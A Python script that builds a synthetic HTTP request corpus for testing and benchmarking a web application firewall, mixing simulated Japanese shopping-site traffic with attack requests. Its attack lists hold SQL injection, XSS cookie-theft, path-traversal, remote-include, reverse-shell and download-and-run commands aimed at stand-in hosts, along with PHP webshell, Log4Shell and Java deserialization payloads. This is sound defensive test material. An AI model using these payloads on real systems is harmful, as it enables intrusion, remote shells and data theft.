#!/usr/bin/env python3
"""Deterministic HTTP request corpus for the keikai / libmodsecurity WAF
differential test and benchmark.

Writes JSONL, one request per line:
  {"i":N, "kind":"benign"|"sqli"|..., "sub":"...", "method":"GET",
   "uri":"/search?q=...", "version":"HTTP/1.1",
   "headers":[["Host","shop.example.jp"], ...], "body":"..."}

~90% benign browsing of a Japanese e-commerce / corporate site, ~10% attacks.
Part of the attack payloads are sampled at run time from the OWASP CRS
regression tests (--crs-tests, default ../shared/data/crs/v4.28.0/tests/
regression/tests next to the repository); if that directory is missing only
the built-in payloads are used (the corpus then differs, a note is printed).

Python 3 stdlib only. Same arguments + same CRS test files => same output.
"""

import argparse
import json
import os
import random
import re
import sys
from collections import Counter
from urllib.parse import quote, quote_plus, urlencode

HOST = "shop.example.jp"
ORIGIN = "https://" + HOST

# --------------------------------------------------------------------------
# Browser fingerprints (header sets as real browsers send them).
# --------------------------------------------------------------------------
CHROME_VER = ["122", "123", "124", "125", "126"]


def chrome_ua(r, mobile=False):
    v = r.choice(CHROME_VER)
    if mobile:
        return ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{v}.0.0.0 Mobile Safari/537.36"), v
    plat = r.choice(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7",
                     "X11; Linux x86_64"])
    return (f"Mozilla/5.0 ({plat}) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{v}.0.0.0 Safari/537.36"), v


def pick_browser(r):
    x = r.random()
    if x < 0.45:
        ua, v = chrome_ua(r)
        return {"family": "chrome", "ua": ua, "ver": v, "mobile": False,
                "brand": "Google Chrome", "platform": '"Windows"' if "Windows" in ua else
                ('"macOS"' if "Mac" in ua else '"Linux"')}
    if x < 0.60:
        ua, v = chrome_ua(r, mobile=True)
        return {"family": "chrome", "ua": ua, "ver": v, "mobile": True,
                "brand": "Google Chrome", "platform": '"Android"'}
    if x < 0.70:
        ua, v = chrome_ua(r)
        ua = ua + f" Edg/{v}.0.0.0"
        return {"family": "chrome", "ua": ua, "ver": v, "mobile": False,
                "brand": "Microsoft Edge", "platform": '"Windows"'}
    if x < 0.88:
        iv = r.choice(["16_6", "17_4_1", "17_5"])
        sv = iv.split("_")[0] + "." + iv.split("_")[1]
        if r.random() < 0.7:
            ua = (f"Mozilla/5.0 (iPhone; CPU iPhone OS {iv} like Mac OS X) AppleWebKit/605.1.15 "
                  f"(KHTML, like Gecko) Version/{sv} Mobile/15E148 Safari/604.1")
        else:
            ua = (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
                  f"(KHTML, like Gecko) Version/{sv} Safari/605.1.15")
        return {"family": "safari", "ua": ua}
    fv = r.choice(["115.0", "124.0", "125.0", "126.0"])
    plat = r.choice(["Windows NT 10.0; Win64; x64; rv:", "Macintosh; Intel Mac OS X 10.15; rv:",
                     "X11; Ubuntu; Linux x86_64; rv:"])
    return {"family": "firefox", "ua": f"Mozilla/5.0 ({plat}{fv}) Gecko/20100101 Firefox/{fv}"}


ACCEPT_LANG = ["ja,en-US;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7",
               "ja", "ja-JP", "ja,en;q=0.9", "en-US,en;q=0.9,ja;q=0.8"]
ACCEPT_DOC = {
    "chrome": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
              "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "firefox": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "safari": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}
ACCEPT_IMG = {
    "chrome": "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
    "firefox": "image/avif,image/webp,*/*",
    "safari": "image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,video/*;q=0.8,"
              "image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5",
}


def rand_hex(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def rand_alnum(r, n):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                   for _ in range(n))


def rand_uuid(r):
    h = rand_hex(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


class Visitor:
    """A browser session: fixed UA, language and cookies."""

    def __init__(self, r):
        self.b = pick_browser(r)
        self.lang = r.choice(ACCEPT_LANG)
        ts = 1714000000 + r.randrange(5000000)
        self.cookies = []
        if r.random() < 0.8:
            self.cookies.append(("_ga", f"GA1.1.{r.randrange(10**8, 10**10)}.{ts}"))
            if r.random() < 0.7:
                self.cookies.append(("_ga_" + rand_alnum(r, 10).upper(),
                                     f"GS1.1.{ts + 3600}.{r.randrange(1, 30)}.1.{ts + 3700}.0.0.0"))
        if r.random() < 0.7:
            self.cookies.append(("PHPSESSID" if r.random() < 0.3 else "session_id",
                                 rand_alnum(r, 26) if r.random() < 0.5 else rand_hex(r, 32)))
        if r.random() < 0.4:
            self.cookies.append(("cart_id", rand_uuid(r)))
        if r.random() < 0.3:
            self.cookies.append(("lang", "ja"))
        if r.random() < 0.2:
            self.cookies.append(("cookie_consent", "accepted"))
        self.logged_in = False
        self.last_page = None

    def cookie_header(self):
        return "; ".join(f"{k}={v}" for k, v in self.cookies)

    def headers(self, r, dest="document", referer=None, extra=None, accept=None, site=None):
        """Header list in the order the browser family sends them."""
        fam = self.b["family"]
        h = [("Host", HOST)]
        if fam == "chrome":
            h.append(("Connection", "keep-alive"))
            v = self.b["ver"]
            h.append(("sec-ch-ua", f'"Chromium";v="{v}", "{self.b["brand"]}";v="{v}", '
                                   f'"Not-A.Brand";v="99"'))
            h.append(("sec-ch-ua-mobile", "?1" if self.b["mobile"] else "?0"))
            h.append(("sec-ch-ua-platform", self.b["platform"]))
            if dest == "document":
                h.append(("Upgrade-Insecure-Requests", "1"))
            h.append(("User-Agent", self.b["ua"]))
        else:
            h.append(("User-Agent", self.b["ua"]))
        if accept is None:
            if dest == "document":
                accept = ACCEPT_DOC[fam]
            elif dest == "image":
                accept = ACCEPT_IMG[fam]
            elif dest == "style":
                accept = "text/css,*/*;q=0.1"
            else:
                accept = "*/*"
        h.append(("Accept", accept))
        if extra:
            h.extend(extra)
        if fam in ("chrome", "firefox"):
            if site is None:
                site = "same-origin" if referer and referer.startswith(ORIGIN) else \
                    ("cross-site" if referer else "none")
            h.append(("Sec-Fetch-Site", site))
            h.append(("Sec-Fetch-Mode", "navigate" if dest == "document" else
                      ("cors" if dest == "empty" else "no-cors")))
            if dest == "document":
                h.append(("Sec-Fetch-User", "?1"))
            h.append(("Sec-Fetch-Dest", dest))
        if referer:
            h.append(("Referer", referer))
        h.append(("Accept-Encoding", "gzip, deflate, br" + (", zstd" if fam == "chrome" and
                                                              self.b.get("ver", "0") >= "123" else "")))
        h.append(("Accept-Language", self.lang))
        if self.cookies:
            h.append(("Cookie", self.cookie_header()))
        if fam == "firefox":
            h.append(("Connection", "keep-alive"))
            if dest == "document":
                h.append(("Upgrade-Insecure-Requests", "1"))
        return h


# --------------------------------------------------------------------------
# Site content
# --------------------------------------------------------------------------
CATEGORIES = ["mens-fashion", "ladies-fashion", "bags", "wallets", "watches", "shoes", "kitchen",
              "tableware", "sake", "tea", "sweets", "stationery", "outdoor", "beauty", "gift"]
SEARCH_WORDS = [
    "財布", "革 財布 メンズ", "長財布 レディース", "腕時計", "スニーカー 白", "日本酒 ギフト", "お茶 セット",
    "抹茶", "和菓子 詰め合わせ", "有田焼 マグカップ", "南部鉄器 急須", "今治タオル", "扇子", "浴衣",
    "リュック 通勤", "ボールペン 名入れ", "母の日 プレゼント", "父の日", "お中元", "お歳暮", "送料無料",
    "セール", "新作", "ランキング", "北海道 チーズケーキ", "京都 八ッ橋", "信楽焼", "日傘 晴雨兼用",
    "ダウンジャケット", "キャンプ 椅子", "保温 水筒 500ml", "iPhone15 ケース", "Tシャツ", "ワンピース 春",
    "コーヒー豆 深煎り", "ほうじ茶", "梅酒", "化粧水 敏感肌", "日焼け止め SPF50", "ギフト券",
    "bag", "wallet leather", "sneakers 27cm", "watch", "tote", "gift set",
]
SORTS = ["recommend", "new", "price_asc", "price_desc", "popular", "review"]
NEWS_SLUGS = ["summer-sale", "new-store-open", "system-maintenance", "golden-week-shipping",
              "year-end-holidays", "campaign-2024", "privacy-policy-update", "recruit-2025"]
CORP_PAGES = ["/company/", "/company/about", "/company/message", "/company/access", "/ir/",
              "/ir/library/", "/recruit/", "/recruit/new-graduate/", "/recruit/career/", "/csr/",
              "/contact/", "/faq/", "/guide/shipping", "/guide/payment", "/guide/returns",
              "/privacy", "/terms", "/sitemap", "/tokushoho"]
PREFS = ["東京都", "大阪府", "神奈川県", "愛知県", "福岡県", "北海道", "京都府", "兵庫県", "埼玉県", "千葉県"]
NAMES = ["山田 太郎", "佐藤 花子", "鈴木 一郎", "高橋 美咲", "田中 健", "伊藤 さくら", "渡辺 翔太",
         "中村 陽菜", "小林 大輔", "加藤 結衣"]
MESSAGES = [
    "商品の在庫について問い合わせです。入荷予定はありますか？",
    "注文した商品がまだ届きません。配送状況を確認していただけますでしょうか。",
    "ギフト包装とのし（御中元）をお願いできますか。",
    "サイズ交換を希望します。Mサイズ→Lサイズへの交換は可能でしょうか？",
    "領収書の発行をお願いします。宛名は株式会社サンプルでお願いします。",
    "法人での大量注文（100個程度）を検討しています。見積もりをお願いします。",
    "Thank you for the quick delivery. Will the item be restocked next month?",
]
EMAIL_DOMAINS = ["gmail.com", "yahoo.co.jp", "docomo.ne.jp", "icloud.com", "outlook.jp",
                 "example.co.jp", "ezweb.ne.jp"]
REFERERS_EXT = ["https://www.google.com/", "https://www.google.co.jp/", "https://search.yahoo.co.jp/",
                "https://www.bing.com/", "https://t.co/", "https://www.instagram.com/",
                "https://line.me/"]


def product_id(r):
    return r.randrange(10000, 99999)


def page_uri(r):
    x = r.random()
    if x < 0.12:
        return "/"
    if x < 0.40:
        return f"/products/{product_id(r)}" + ("" if r.random() < 0.8 else
                                               f"?variant={r.randrange(1, 9)}")
    if x < 0.60:
        c = r.choice(CATEGORIES)
        q = []
        if r.random() < 0.5:
            q.append(("page", str(r.randrange(2, 30))))
        if r.random() < 0.4:
            q.append(("sort", r.choice(SORTS)))
        if r.random() < 0.2:
            q.append(("price_min", str(r.choice([1000, 3000, 5000]))))
            q.append(("price_max", str(r.choice([10000, 20000, 50000]))))
        if r.random() < 0.15:
            q.append(("per_page", r.choice(["20", "40", "100"])))
        return f"/category/{c}/" + ("?" + urlencode(q) if q else "")
    if x < 0.70:
        return f"/news/2024/{r.randrange(1, 13):02d}/{r.choice(NEWS_SLUGS)}" + \
            ("" if r.random() < 0.8 else "?utm_source=newsletter&utm_medium=email&utm_campaign="
             + r.choice(["spring2024", "gw_sale", "members_only"]))
    if x < 0.85:
        return r.choice(CORP_PAGES)
    if x < 0.92:
        return "/ranking/" + r.choice(["daily", "weekly", "monthly"]) + \
            ("" if r.random() < 0.6 else f"?category={r.choice(CATEGORIES)}")
    return r.choice(["/mypage/", "/mypage/orders", "/mypage/favorites", "/cart/",
                     "/mypage/orders?page=2", "/mypage/address"])


def search_uri(r):
    w = r.choice(SEARCH_WORDS)
    q = quote_plus(w) if r.random() < 0.5 else quote(w, safe="")
    uri = "/search?q=" + q
    if r.random() < 0.4:
        uri += f"&page={r.randrange(2, 15)}"
    if r.random() < 0.3:
        uri += "&sort=" + r.choice(SORTS)
    if r.random() < 0.2:
        uri += "&category=" + r.choice(CATEGORIES)
    return uri


STATIC_HASHES = [rand_hex(random.Random(i), 8) for i in range(6)]


def static_req(r, v):
    x = r.random()
    ref = ORIGIN + (v.last_page or "/")
    if x < 0.25:
        uri = f"/static/css/{r.choice(['main', 'vendor', 'product'])}.{r.choice(STATIC_HASHES)}.css"
        return uri, v.headers(r, dest="style", referer=ref), "css"
    if x < 0.50:
        uri = f"/static/js/{r.choice(['app', 'vendor', 'chunk-' + str(r.randrange(100, 999))])}." \
              f"{r.choice(STATIC_HASHES)}.js"
        return uri, v.headers(r, dest="script", referer=ref), "js"
    if x < 0.90:
        ext = r.choice(["jpg", "jpg", "webp", "png"])
        uri = f"/images/products/{product_id(r)}_{r.randrange(1, 6)}.{ext}"
        if r.random() < 0.3:
            uri = f"/images/banner/{r.choice(NEWS_SLUGS)}_{r.choice(['pc', 'sp'])}.{ext}"
        if r.random() < 0.2:
            uri += f"?w={r.choice([320, 640, 1200])}"
        return uri, v.headers(r, dest="image", referer=ref), "image"
    if x < 0.95:
        uri = r.choice(["/fonts/NotoSansJP-Regular.woff2", "/fonts/NotoSansJP-Bold.woff2"])
        h = v.headers(r, dest="font", referer=ref, site="same-origin")
        h.insert(2, ("Origin", ORIGIN))
        return uri, h, "font"
    uri = r.choice(["/favicon.ico", "/apple-touch-icon.png", "/manifest.json", "/robots.txt"])
    return uri, v.headers(r, dest="image" if "ico" in uri or "png" in uri else "empty",
                          referer=ref), "misc"


def with_body(headers, ctype, body):
    h = list(headers)
    # Content-Type / Content-Length go before Accept-Encoding, as browsers do.
    idx = next((i for i, (k, _) in enumerate(h) if k == "Accept-Encoding"), len(h))
    h[idx:idx] = [("Content-Length", str(len(body.encode("utf-8")))), ("Content-Type", ctype)]
    return h


def login_req(r, v):
    email = f"{rand_alnum(r, r.randrange(5, 10)).lower()}@{r.choice(EMAIL_DOMAINS)}"
    pw = r.choice(["Sakura", "Tokyo", "Yama", "Umi", "Neko", "Haru"]) + str(r.randrange(1000, 9999)) + \
        r.choice(["", "!", "#", "_x", "Aa"])
    fields = [("csrf_token", rand_alnum(r, 40)), ("email", email), ("password", pw)]
    if r.random() < 0.5:
        fields.append(("remember_me", "1"))
    if r.random() < 0.3:
        fields.append(("redirect", "/mypage/"))
    body = urlencode(fields)
    h = v.headers(r, dest="document", referer=ORIGIN + "/login", extra=[("Origin", ORIGIN)],
                  site="same-origin")
    v.logged_in = True
    return "POST", "/login", with_body(h, "application/x-www-form-urlencoded", body), body


def contact_req(r, v):
    name = r.choice(NAMES)
    fields = [("csrf_token", rand_alnum(r, 40)), ("name", name),
              ("email", f"{rand_alnum(r, 8).lower()}@{r.choice(EMAIL_DOMAINS)}"),
              ("tel", f"0{r.randrange(3, 90)}-{r.randrange(1000, 9999)}-{r.randrange(1000, 9999)}"),
              ("pref", r.choice(PREFS)), ("category", r.choice(["order", "product", "other"])),
              ("message", r.choice(MESSAGES)), ("agree", "on")]
    body = urlencode(fields)
    h = v.headers(r, dest="document", referer=ORIGIN + "/contact/", extra=[("Origin", ORIGIN)],
                  site="same-origin")
    return "POST", "/contact/confirm", with_body(h, "application/x-www-form-urlencoded", body), body


def api_json_req(r, v):
    x = r.random()
    if x < 0.45:
        uri = "/api/v1/cart/items"
        obj = {"product_id": product_id(r), "quantity": r.randrange(1, 4),
               "options": {"color": r.choice(["ブラック", "ネイビー", "ホワイト", "ベージュ"]),
                           "size": r.choice(["S", "M", "L", "XL", "F"])}}
        if r.random() < 0.3:
            obj["gift_wrapping"] = True
            obj["noshi"] = r.choice(["御中元", "御歳暮", "御祝", "内祝"])
    elif x < 0.65:
        uri = "/api/v1/favorites"
        obj = {"product_id": product_id(r), "action": r.choice(["add", "remove"])}
    elif x < 0.80:
        uri = "/api/v1/reviews"
        obj = {"product_id": product_id(r), "rating": r.randrange(3, 6),
               "title": r.choice(["とても良い", "満足です", "リピートします", "Good quality"]),
               "comment": r.choice(["色味も写真通りで、サイズもぴったりでした。",
                                    "包装が丁寧で、贈り物にも安心して使えます。",
                                    "思ったより小さかったですが、使いやすいです。",
                                    "Fast shipping, great quality. Would buy again."])}
    elif x < 0.92:
        uri = "/api/v1/events"
        obj = {"event": r.choice(["page_view", "add_to_cart", "scroll", "view_item"]),
               "page": v.last_page or "/", "ts": 1714000000000 + r.randrange(10**9),
               "session": rand_hex(r, 16), "items": [product_id(r) for _ in range(r.randrange(0, 4))]}
    else:
        uri = "/api/v1/address/lookup"
        obj = {"zipcode": f"{r.randrange(100, 999)}-{r.randrange(1000, 9999)}"}
    body = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    h = v.headers(r, dest="empty", referer=ORIGIN + (v.last_page or "/"),
                  extra=[("Origin", ORIGIN)], accept="application/json, text/plain, */*",
                  site="same-origin")
    if r.random() < 0.5:
        h.insert(3, ("X-Requested-With", "XMLHttpRequest"))
    if r.random() < 0.5:
        h.insert(3, ("X-CSRF-Token", rand_alnum(r, 40)))
    ctype = "application/json" if r.random() < 0.6 else "application/json;charset=UTF-8"
    return "POST", uri, with_body(h, ctype, body), body


def api_get_req(r, v):
    x = r.random()
    if x < 0.4:
        uri = "/api/v1/products?ids=" + ",".join(str(product_id(r)) for _ in range(r.randrange(1, 6)))
    elif x < 0.7:
        uri = "/api/v1/suggest?q=" + quote(r.choice(SEARCH_WORDS)[:r.randrange(1, 4)], safe="")
    elif x < 0.85:
        uri = f"/api/v1/stock/{product_id(r)}"
    else:
        uri = "/api/v1/cart"
    h = v.headers(r, dest="empty", referer=ORIGIN + (v.last_page or "/"),
                  accept="application/json, text/plain, */*", site="same-origin")
    return "GET", uri, h, ""


def multipart_req(r, v):
    boundary = "----WebKitFormBoundary" + rand_alnum(r, 16)
    kind = r.random()
    parts = [("csrf_token", None, None, rand_alnum(r, 40))]
    if kind < 0.5:
        uri = "/mypage/profile/avatar"
        fname = r.choice(["IMG_" + str(r.randrange(1000, 9999)) + ".jpg", "avatar.png", "profile.jpg"])
        ctype = "image/png" if fname.endswith("png") else "image/jpeg"
        content = "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                          for _ in range(r.randrange(200, 800)))
        parts.append(("avatar", fname, ctype, content))
    else:
        uri = "/contact/upload"
        parts.append(("name", None, None, r.choice(NAMES)))
        parts.append(("message", None, None, r.choice(MESSAGES)))
        fname = r.choice(["注文書.pdf", "receipt.pdf", "list.csv"])
        if fname.endswith("csv"):
            content = "品番,数量\r\n" + "".join(f"{product_id(r)},{r.randrange(1, 20)}\r\n"
                                              for _ in range(r.randrange(2, 8)))
            ctype = "text/csv"
        else:
            content = "%PDF-1.4\n" + rand_alnum(r, r.randrange(200, 600)) + "\n%%EOF\n"
            ctype = "application/pdf"
        parts.append(("attachment", fname, ctype, content))
    body = ""
    for name, fname, ctype, content in parts:
        body += f"--{boundary}\r\n"
        if fname is None:
            body += f'Content-Disposition: form-data; name="{name}"\r\n\r\n'
        else:
            body += f'Content-Disposition: form-data; name="{name}"; filename="{fname}"\r\n'
            body += f"Content-Type: {ctype}\r\n\r\n"
        body += content + "\r\n"
    body += f"--{boundary}--\r\n"
    h = v.headers(r, dest="document", referer=ORIGIN + uri.rsplit("/", 1)[0] + "/",
                  extra=[("Origin", ORIGIN)], site="same-origin")
    return "POST", uri, with_body(h, "multipart/form-data; boundary=" + boundary, body), body


def benign(r, visitors):
    # Reuse sessions so cookies / UA repeat like real traffic.
    if not visitors or r.random() < 0.08:
        visitors.append(Visitor(r))
        if len(visitors) > 300:
            visitors.pop(0)
    v = r.choice(visitors[-60:])
    x = r.random()
    method, body = "GET", ""
    if x < 0.30:
        uri = page_uri(r)
        ref = (ORIGIN + v.last_page) if v.last_page and r.random() < 0.8 else \
            (r.choice(REFERERS_EXT) if r.random() < 0.5 else None)
        headers = v.headers(r, dest="document", referer=ref)
        v.last_page = uri
        sub = "page"
    elif x < 0.68:
        uri, headers, sub = static_req(r, v)
        sub = "static-" + sub
    elif x < 0.78:
        uri = search_uri(r)
        headers = v.headers(r, dest="document", referer=ORIGIN + (v.last_page or "/"))
        v.last_page = uri
        sub = "search"
    elif x < 0.86:
        method, uri, headers, body = api_get_req(r, v)
        sub = "api-get"
    elif x < 0.93:
        method, uri, headers, body = api_json_req(r, v)
        sub = "api-json"
    elif x < 0.96:
        method, uri, headers, body = login_req(r, v)
        sub = "login"
    elif x < 0.985:
        method, uri, headers, body = contact_req(r, v)
        sub = "contact"
    else:
        method, uri, headers, body = multipart_req(r, v)
        sub = "multipart"
    return "benign", sub, method, uri, headers, body


# --------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------
TOOL_UAS = ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36"]

SQLI = [
    "1' OR '1'='1", "1 OR 1=1", "' OR 1=1-- -", "1' AND SLEEP(5)-- -", "1; DROP TABLE users--",
    "1 UNION SELECT NULL,username,password FROM users--", "' UNION ALL SELECT 1,2,3,@@version#",
    "1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -",
    "admin'--", "1) OR (1=1", "1' ORDER BY 10-- -", "-1' UNION SELECT table_name FROM information_schema.tables-- -",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", "'; EXEC xp_cmdshell('dir')--",
    "1' WAITFOR DELAY '0:0:5'--", "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' or benchmark(10000000,MD5(1))#", "1' AND updatexml(1,concat(0x7e,user()),1)-- -",
]
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=alert(1)>", "javascript:alert(1)", "<iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>", "'><script src=https://evil.example/x.js></script>",
    "<a href=\"javascript:void(0)\" onmouseover=alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "\"-alert(1)-\"",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
]
LFI = [
    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd",
    "/etc/shadow", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "../../../../proc/self/environ", "/var/log/apache2/access.log", "../../../../boot.ini",
    "..%252f..%252f..%252fetc%252fpasswd", "../../WEB-INF/web.xml",
]
LFI_PATHS = ["/.env", "/.git/config", "/.htaccess", "/wp-config.php.bak", "/config/database.yml",
             "/.aws/credentials", "/web.config", "/.svn/entries", "/backup.sql", "/.DS_Store"]
RFI = [
    "http://203.0.113.5/shell.txt", "https://evil.example.com/c99.txt?", "http://198.51.100.7/r57.php",
    "ftp://evil.example.net/x.txt", "http://evil.example.org/inc.txt??",
]
RFI_PARAMS = ["page", "file", "include", "template", "url", "path", "doc", "lang"]
RCE = [
    ";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; wget http://203.0.113.5/x.sh -O- | sh",
    "&& curl http://evil.example.com/a | bash", "; nc -e /bin/sh 203.0.113.5 4444",
    "| powershell -enc SQBFAFgA", "& cmd.exe /c dir c:\\", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "|| ping -c 10 127.0.0.1", "; rm -rf /tmp/*", "$(curl -s http://evil.example.com/p.sh)",
    "; python3 -c 'import os;os.system(\"id\")'",
]
PHP = [
    "<?php system($_GET['c']); ?>", "<?php echo shell_exec('id'); ?>", "php://filter/convert.base64-encode/resource=index.php",
    "php://input", "<?= phpinfo(); ?>", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "expect://id", "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}", "eval(base64_decode('cGhwaW5mbygpOw=='));",
    "assert($_POST['x'])", "file_put_contents('s.php','<?php eval($_POST[1]);?>')",
]
LOG4J = [
    "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://evil.example.com/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example.com/z}", "${jndi:dns://evil.example.com/q}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example.com/e}", "${jndi:ldap://${env:USER}.evil.example.com/a}",
]
LOG4J_HEADERS = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization"]
JAVA = [
    ("application/x-java-serialized-object", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
    ("application/x-www-form-urlencoded", "data=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg"),
    ("application/x-www-form-urlencoded", "cmd=java.lang.Runtime.getRuntime().exec(\"id\")"),
    ("application/x-www-form-urlencoded", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"),
    ("application/xml", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>"),
    ("application/x-www-form-urlencoded", "payload=ysoserial+CommonsCollections5+%22touch+/tmp/pwn%22"),
    ("application/x-www-form-urlencoded", "x=%24%7B%27%27.getClass().forName(%27java.lang.Runtime%27).getMethods()%7D"),
]
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Fuzz Faster U Fool v2.1.0", "dirbuster", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) ZmEu",
]
SCANNER_PATHS = ["/", "/wp-login.php", "/phpmyadmin/", "/admin/", "/xmlrpc.php", "/server-status",
                 "/cgi-bin/test.cgi", "/api/v1/users", "/login", "/robots.txt", "/actuator/health"]

ATTACK_KINDS = ["sqli", "xss", "lfi", "rfi", "rce", "php", "log4shell", "scanner", "java", "protocol"]
ATTACK_WEIGHTS = [20, 16, 12, 6, 12, 8, 6, 8, 5, 7]

# CRS regression test directories per attack kind (for sampling payloads).
CRS_TEST_DIRS = {
    "sqli": ["REQUEST-942-APPLICATION-ATTACK-SQLI"],
    "xss": ["REQUEST-941-APPLICATION-ATTACK-XSS"],
    "lfi": ["REQUEST-930-APPLICATION-ATTACK-LFI"],
    "rfi": ["REQUEST-931-APPLICATION-ATTACK-RFI"],
    "rce": ["REQUEST-932-APPLICATION-ATTACK-RCE"],
    "php": ["REQUEST-933-APPLICATION-ATTACK-PHP"],
    "java": ["REQUEST-944-APPLICATION-ATTACK-JAVA"],
}


def attack_headers(r, ua=None, browserish=None):
    if browserish is None:
        browserish = r.random() < 0.5
    if browserish:
        v = Visitor(r)
        h = v.headers(r, dest="document", referer=r.choice([None, ORIGIN + "/"]))
        if ua:
            h = [(k, ua if k == "User-Agent" else val) for k, val in h]
        return h
    return [("Host", HOST), ("User-Agent", ua or r.choice(TOOL_UAS)), ("Accept", "*/*")]


def inject_param(r, payload, params=("id", "q", "item", "cat", "sort", "user", "keyword", "ref")):
    """Put payload into a query parameter or urlencoded POST body."""
    name = r.choice(params)
    path = r.choice(["/search", "/products/list", "/category/bags/", "/api/v1/products", "/news/",
                     "/mypage/orders", "/item.php"])
    enc = quote(payload, safe="") if r.random() < 0.7 else quote_plus(payload)
    if r.random() < 0.75:
        return "GET", f"{path}?{name}={enc}", attack_headers(r), ""
    body = f"csrf_token={rand_alnum(r, 20)}&{name}={enc}"
    return "POST", path, with_body(attack_headers(r), "application/x-www-form-urlencoded", body), body


def parse_yaml_scalar(s):
    s = s.strip()
    if not s or s[0] in "|>&*!{[":
        return None
    if s[0] == '"':
        if not s.endswith('"') or len(s) < 2:
            return None
        try:
            return json.loads(s)
        except ValueError:
            return None
    if s[0] == "'":
        if not s.endswith("'") or len(s) < 2:
            return None
        return s[1:-1].replace("''", "'")
    s = re.sub(r"\s+#.*$", "", s)
    return s


STD_TEST_HEADERS = {"host", "user-agent", "accept", "content-type", "content-length",
                    "accept-encoding", "accept-language", "connection"}


def load_rule_paranoia(rules_dir):
    """{rule id: paranoia level} from the CRS rule files' paranoia-level/N tags."""
    pl = {}
    if not os.path.isdir(rules_dir):
        return pl
    for fn in sorted(os.listdir(rules_dir)):
        if not fn.endswith(".conf"):
            continue
        with open(os.path.join(rules_dir, fn), encoding="utf-8", errors="replace") as f:
            parts = re.split(r"\bid:(\d+)", f.read())
        for k in range(1, len(parts) - 1, 2):
            m = re.search(r"paranoia-level/(\d)", parts[k + 1])
            if m:
                pl[int(parts[k])] = int(m.group(1))
    return pl


def load_crs_samples(tests_dir, max_pl=1):
    """{kind: [("uri", value) | ("data", value)]} from positive CRS tests of
    rules at paranoia level <= max_pl whose payload is in the URI or body."""
    out = {}
    if not tests_dir or not os.path.isdir(tests_dir):
        return out
    pl = load_rule_paranoia(os.path.join(tests_dir, "..", "..", "..", "rules"))
    for kind, dirs in CRS_TEST_DIRS.items():
        samples = []
        for d in dirs:
            p = os.path.join(tests_dir, d)
            if not os.path.isdir(p):
                continue
            for fn in sorted(os.listdir(p)):
                if not fn.endswith(".yaml"):
                    continue
                with open(os.path.join(p, fn), encoding="utf-8", errors="replace") as f:
                    text = f.read()
                m = re.search(r"^rule_id:\s*(\d+)", text, re.M)
                if pl and (not m or pl.get(int(m.group(1)), 99) > max_pl):
                    continue
                for block in re.split(r"\n\s*- test_id:", text)[1:]:
                    if "expect_ids" not in block or "no_expect_ids" in block:
                        continue
